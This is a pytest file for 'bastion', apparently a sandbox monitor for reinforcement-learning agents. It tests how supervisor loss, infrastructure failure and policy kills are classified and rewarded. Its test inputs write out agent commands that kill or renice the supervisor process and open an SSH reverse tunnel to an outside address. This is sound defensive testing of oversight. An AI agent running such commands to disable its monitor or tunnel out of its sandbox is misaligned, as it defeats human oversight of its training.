"""Infra failures are not violations: a sandbox lost while no process of the agent's
existed reaches the trainer as ``infra_failed`` (no penalty, left out of group
statistics by ``rl.exclude``); a sandbox the agent's own code brought down, or a
policy kill, stays a violation."""

from __future__ import annotations

import os
import signal

import pytest

from bastion import Policy, PolicyError
from bastion.rl import BastionEnv
from bastion.rl.shaping import excluded, group_advantages

from ..conftest import wait_for
from .fixtures import pattern_engine


def _env(state_dir, policy=None):
    return BastionEnv(policy or Policy.default(), run_id="run-infra", name="inf", max_steps=8,
                      state_dir=state_dir, engine_factory=pattern_engine, exec_timeout=20)


def test_supervisor_killed_from_outside_is_infra_failed_not_a_violation(state_dir):
    env = _env(state_dir)
    try:
        env.reset(options={"episode_id": "ep-node-loss"})
        obs, reward, terminated, _, info = env.step("echo working")
        assert not terminated and "working" in obs
        assert info["bastion"]["infra_failed"] is False
        session = env.session
        assert session is not None and session.sandbox is not None
        # the host (node loss, an operator, the OOM killer) kills the supervisor by pid
        os.kill(session.sandbox.supervisor_pid, signal.SIGKILL)
        assert wait_for(lambda: session.ended, timeout=10)
        obs, reward, terminated, _truncated, info = env.step("echo again")
        b = info["bastion"]
        assert terminated
        assert b["infra_failed"] is True and "no agent process" in b["infra_reason"]
        assert b["penalty"] == 0.0 and b["violations"] == 0 and reward == 0.0
        assert b["flag"] == "keep" and b["exclude"] is True  # default rl.exclude
        assert not [v for v in session.verdicts
                    if v.rule_id == "monitor_tamper.supervisor_lost"]
        assert env.record is not None and env.record.infra_failed
        assert env.record.penalty == 0.0 and not env.record.violated
        # the trail says what happened
        states = [e.get("life.state") for e in session.events if e.kind.value == "lifecycle"]
        assert "infra_failed" in states
    finally:
        env.close()
    assert env.record is not None and env.record.to_dict()["infra_failed"] is True


def test_agent_killing_its_supervisor_is_a_violation_not_infra(state_dir):
    env = _env(state_dir)
    try:
        env.reset(options={"episode_id": "ep-tamper"})
        # a background process of the agent's kills the supervisor after its call ended
        _, _, terminated, _, info = env.step(
            "(sleep 0.5; kill -9 2) >/dev/null 2>&1 &")
        session = env.session
        assert session is not None
        if not terminated:
            assert wait_for(lambda: session.ended, timeout=10)
            _, _, terminated, _, info = env.step("echo after")
        b = info["bastion"]
        assert terminated
        assert b["infra_failed"] is False and b["infra_reason"] is None
        assert env.record is not None and env.record.violated
        assert any(v["rule_id"] == "monitor_tamper.supervisor_lost"
                   for v in env.record.violations)
        assert env.record.penalty < 0 and env.record.flag == "mask"
    finally:
        env.close()


def test_policy_kill_is_a_violation_not_infra(state_dir):
    env = _env(state_dir)
    try:
        env.reset(options={"episode_id": "ep-policy"})
        # the fixture engine's critical tunnel rule: rl.terminate_on ends the episode
        _, reward, terminated, _, info = env.step("ssh -R 9000:localhost:22 203.0.113.9")
        b = info["bastion"]
        assert terminated and b["violations"] >= 1 and reward < 0
        assert b["infra_failed"] is False and b["exclude"] is False  # mask: counted
        assert env.record is not None and not env.record.infra_failed
    finally:
        env.close()


def test_exclude_option_is_validated_and_applied():
    assert Policy.default().rl.exclude == ["infra_failed"]
    both = Policy.from_dict({"rl": {"exclude": ["masked", "infra_failed"]}}).rl
    none = Policy.from_dict({"rl": {"exclude": []}}).rl
    assert excluded("mask", False, both) and not excluded("mask", False, Policy.default().rl)
    assert excluded("keep", True, both) and not excluded("keep", True, none)
    assert excluded("drop", False, none)  # drop always leaves the group
    assert not excluded("keep", False, both)
    with pytest.raises(PolicyError, match="rl.exclude.0: Input should be 'masked' or"):
        Policy.from_dict({"rl": {"exclude": ["mask"]}})
    with pytest.raises(PolicyError, match="rl.exclude"):
        Policy.from_dict({"rl": {"exclude": "masked"}})


def test_group_advantages_leave_excluded_members_out_of_the_baseline():
    rewards = [1.0, 0.0, -1.0, 0.0, 1.0, 1.0]
    groups = ["a", "a", "a", "b", "b", "b"]
    # a's third member is a masked violation; b's first died with its node
    leave_out = [False, False, True, True, False, False]
    adv = group_advantages(rewards, groups, leave_out, normalise=False)
    assert adv == [0.5, -0.5, 0.0, 0.0, 0.0, 0.0]
    # counted in, the penalty and the dead sandbox would have moved everyone's baseline
    naive = group_advantages(rewards, groups, [False] * 6, normalise=False)
    assert naive[0] == pytest.approx(1.0) and naive[4] == pytest.approx(1 / 3)
    with pytest.raises(ValueError):
        group_advantages([1.0], ["a", "b"], [False])


def test_supervisor_priority_changed_by_a_finished_call_is_not_infra(state_dir):
    # the call that renices the supervisor ends with no process left, but what it did
    # outlives it: the sandbox is not "quiet", so a loss that follows is the agent's
    env = _env(state_dir)
    try:
        env.reset(options={"episode_id": "ep-renice"})
        _, _, terminated, _, info = env.step(
            "python3 -c 'import os; os.setpriority(os.PRIO_PROCESS, 2, 19)'")
        session = env.session
        assert session is not None
        assert session._quiet is False  # seen synchronously at the end of the call
        if not terminated:
            assert wait_for(lambda: session.ended, timeout=10)
            _, _, terminated, _, info = env.step("echo after")
        assert terminated and info["bastion"]["infra_failed"] is False
        assert any(v["rule_id"] == "monitor_tamper.supervisor_lost"
                   for v in env.record.violations)
    finally:
        env.close()
